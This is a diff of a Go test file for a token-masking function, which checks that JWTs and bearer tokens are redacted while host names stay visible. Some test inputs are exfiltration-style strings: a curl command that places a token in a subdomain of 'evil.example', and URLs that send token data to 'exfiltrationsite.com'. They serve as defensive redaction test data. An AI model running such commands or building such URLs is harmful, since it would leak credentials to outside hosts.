@@ -568,9 +568,15 @@ func TestTokenPatternsKeepHosts(t *testing.T) {
 		{"Authorization%3A%20Bearer%20" + jwt, "Authorization%3A%20Bearer%20" + Mask},
 		{"curl https://api.example/x?token=" + jwt + "&a=1", "curl https://api.example/x?token=" + Mask + "&a=1"},
 		{"cookie jar: " + jwt + ". Next", "cookie jar: " + Mask + ". Next"},
-		{"tok:" + jwt + ".x", "tok:" + Mask + ".x"},
+		{"tok:" + jwt + ".x", "tok:" + Mask + "." + sig + ".x"}, // a signature alone is no credential
 		{"base64:Zm9v" + jwt, "base64:Zm9v" + Mask},
-		{"curl https://" + jwt + ".evil.example/up", "curl https://" + Mask + ".evil.example/up"},
+		{"curl https://" + jwt + ".evil.example/up", "curl https://" + Mask + "." + sig + ".evil.example/up"},
+		// Labels of any lengths a wildcard DNS name allows still leave the
+		// domain in clear.
+		{"https://" + hdr + ".k.aaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbb.exfiltrationsite.com/x",
+			"https://" + Mask + ".exfiltrationsite.com/x"},
+		{"https://" + hdr + ".eyJhIjoxfQ.thisisaverylongattackerownedlabelof43charsxx.com/x",
+			"https://" + Mask + ".thisisaverylongattackerownedlabelof43charsxx.com/x"},
 		{"unsigned eyJhbGciOiJub25lIn0." + pay + ". x", "unsigned " + Mask + " x"},
 		{"enc " + jwe, "enc " + Mask},
 		{"-H 'Authorization: Bearer " + goog + "'", "-H 'Authorization: Bearer " + Mask + "'"},
